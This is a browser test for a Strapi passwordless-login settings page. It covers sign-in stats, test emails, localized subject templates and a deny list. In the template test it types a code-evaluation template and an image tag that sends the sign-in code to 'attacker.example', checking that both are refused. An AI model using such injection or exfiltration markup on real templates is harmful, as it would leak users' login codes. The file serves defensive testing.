/// <reference lib="dom" />
/**
 * The Passwordless login settings page in Chromium, in the admin panel `strapi build`
 * made (global setup): an admin signs in, opens the page from the Settings menu, sends a
 * test email through the real provider, edits the French subject, watches the preview
 * follow, saves, and the next code email asked for in French carries the new subject.
 * The same file on the Strapi 4 demo and the Strapi 5 host (TEST_STRAPI=5): each admin
 * bundles the page built on its own kit, and the roles and labels a user sees are the same.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Browser, Locator, Page } from 'playwright-core';
import { startStrapi, RELAXED_LIMITS, type TestApp } from '../helpers/strapi';
import { createUser } from '../helpers/users';
import { createAdmin, type TestAdmin } from '../helpers/admin';
import { ask, lastEmail, verify, wrongCode } from '../helpers/flow';
import { launchChromium } from './helpers/chromium';
import { listen } from './helpers/strapi-http';
import { JWT_MODE, STRAPI_MAJOR } from '../helpers/host';

// `SCREENSHOT_DIR=docs npm run test:browser` refreshes the README's pictures.
const SCREENSHOT_DIR = path.resolve(__dirname, '../..', process.env.SCREENSHOT_DIR ?? '.tmp/screenshots');
const ADMIN_PASSWORD = 'Passw0rd!Passw0rd';
// One picture per host: the README shows both.
const SHOT = STRAPI_MAJOR === 5 ? 'admin-passwordless-strapi5' : 'admin-passwordless';

let app: TestApp;
let browser: Browser;
let baseUrl: string;
let admin: TestAdmin;

beforeAll(async () => {
  app = await startStrapi({
    serveAdminPanel: true,
    passwordless: {
      grantPublic: true,
      limits: RELAXED_LIMITS,
      email: { appName: 'Maison', locales: { fr: { subject: 'Votre code de connexion' } } },
    },
  });
  baseUrl = `http://127.0.0.1:${await listen(app)}`;
  admin = await createAdmin(app.strapi, 'super');
  browser = await launchChromium();
  await someActivity();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

/** A few sign-ins and a wrong code, so the chart has something to show. */
async function someActivity(): Promise<void> {
  for (let i = 0; i < 3; i += 1) {
    const user = await createUser(app.strapi);
    await ask(app, user.email);
    await app.settle();
    const { code } = lastEmail(app, user.email);
    if (i === 0) await verify(app, user.email, wrongCode(code!));
    await verify(app, user.email, code!);
  }
}

async function signedInAdmin(): Promise<Page> {
  const context = await browser.newContext({ baseURL: baseUrl, viewport: { width: 1366, height: 900 } });
  context.setDefaultTimeout(20_000);
  const page = await context.newPage();
  await page.goto('/admin/auth/login');
  await page.locator('input[name="email"]').fill(admin.email);
  await page.locator('input[name="password"]').fill(ADMIN_PASSWORD);
  await page.locator('button[type="submit"]').click();
  await page.waitForURL((url) => !url.pathname.includes('/auth/login'));
  return page;
}

/** Waits (bounded) until the locator's text is `expected`. */
async function waitForText(locator: Locator, expected: string | RegExp): Promise<string> {
  const deadline = Date.now() + 10_000;
  let text = '';
  while (Date.now() < deadline) {
    text = ((await locator.textContent()) ?? '').trim();
    if (typeof expected === 'string' ? text === expected : expected.test(text)) return text;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`expected ${expected}, still "${text}"`);
}

async function screenshot(page: Page, name: string): Promise<void> {
  fs.mkdirSync(SCREENSHOT_DIR, { recursive: true });
  await page.screenshot({ path: path.join(SCREENSHOT_DIR, name) });
}

describe('the Passwordless login settings page', () => {
  it('opens from Settings → Users & Permissions and sends a test code email through the provider', async () => {
    const page = await signedInAdmin();
    await page.goto('/admin/settings');
    await page.getByRole('link', { name: 'Passwordless login' }).click();
    await page.waitForURL('**/admin/settings/users-permissions/passwordless');
    await page.getByRole('heading', { name: 'Passwordless login', level: 1 }).waitFor();
    // The chart counts what happened (3 requests, 3 sign-ins, 1 wrong code).
    await waitForText(page.getByText(/codes? requested/).first(), /^3 codes requested, 3 sign-ins, 1 wrong code and 0 locks/);
    // The JWT mode users-permissions runs in (Strapi 4: legacy; the Strapi 5 host: refresh).
    await page.getByText(JWT_MODE === 'refresh' ? /^Refresh: a short-lived access token/ : /^Legacy: a JWT alone/).waitFor();
    await screenshot(page, `${SHOT}.png`);

    await page.getByRole('button', { name: 'Send me a test code email' }).click();
    await waitForText(page.getByTestId('passwordless-test-email-result'), `Test email sent to ${admin.email}`);
    const sent = app.ses.to(admin.email);
    expect(sent).toHaveLength(1);
    expect(sent[0].subject).toBe('Your sign-in code');
    expect(sent[0].text).toContain('Hello Ada,');
  });

  it('edits the French subject with a live preview; once saved, a code asked for in French carries it', async () => {
    const page = await signedInAdmin();
    await page.goto('/admin/settings/users-permissions/passwordless');
    await page.getByRole('tab', { name: 'Email templates' }).click();
    await page.getByRole('combobox', { name: 'Locale' }).click();
    await page.getByRole('option', { name: 'fr' }).click();

    const subject = page.getByRole('textbox', { name: 'Subject' });
    const preview = page.getByTestId('passwordless-preview-subject');
    await waitForText(preview, 'Votre code de connexion');

    // Code evaluation is refused where it is typed, by the server's own template checks.
    await subject.fill('<% process.exit(1) %>');
    await page.getByText('only <%= NAME %> placeholders are allowed').first().waitFor();

    // The second review's template (issue 18): refused as typed by the server's parse5
    // checker, bundled in the page, and not previewed (a sandboxed frame still loads images).
    const html = page.getByRole('textbox', { name: 'HTML version' });
    await html.fill(`<p><%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`);
    await page.getByText(/<%= CODE %> inside a tag/).first().waitFor();
    await page.getByTestId('passwordless-preview-html-refused').waitFor();
    await html.fill('');
    await page.getByTestId('passwordless-preview-html').waitFor();

    await subject.fill('Code <%= CODE %> pour <%= APP_NAME %>');
    await waitForText(preview, 'Code 123456 pour Maison');
    await screenshot(page, `${SHOT}-templates.png`);

    const saved = page.waitForResponse((res) => res.url().endsWith('/users-permissions/passwordless/templates') && res.request().method() === 'PUT');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    expect((await saved).status()).toBe(200);

    const user = await createUser(app.strapi);
    expect((await ask(app, user.email, {}, { locale: 'fr' })).status).toBe(200);
    await app.settle();
    expect(lastEmail(app, user.email).subject).toMatch(/^Code \d{6} pour Maison$/);
    // Other languages keep theirs.
    const other = await createUser(app.strapi);
    await ask(app, other.email);
    await app.settle();
    expect(lastEmail(app, other.email).subject).toBe('Your sign-in code');
  });

  it('adds a deny entry on the Access tab; once saved, that address gets no code', async () => {
    const page = await signedInAdmin();
    await page.goto('/admin/settings/users-permissions/passwordless');
    await page.getByRole('tab', { name: 'Access' }).click();
    const user = await createUser(app.strapi);
    const entry = page.getByRole('textbox', { name: 'New entry (Deny list)' });
    // Refused as typed, by the server's own pattern: the Add button stays disabled.
    await entry.fill('not an address');
    await page.getByText('Not an address or @domain.').first().waitFor();
    await entry.fill(user.email.toUpperCase());
    await entry.press('Enter');
    await page.getByRole('button', { name: `Remove ${user.email}` }).waitFor();

    const saved = page.waitForResponse((res) => res.url().endsWith('/users-permissions/passwordless/access') && res.request().method() === 'PUT');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    expect((await saved).status()).toBe(200);
    await ask(app, user.email);
    await app.settle();
    expect(app.ses.to(user.email)).toHaveLength(0);
  });
});
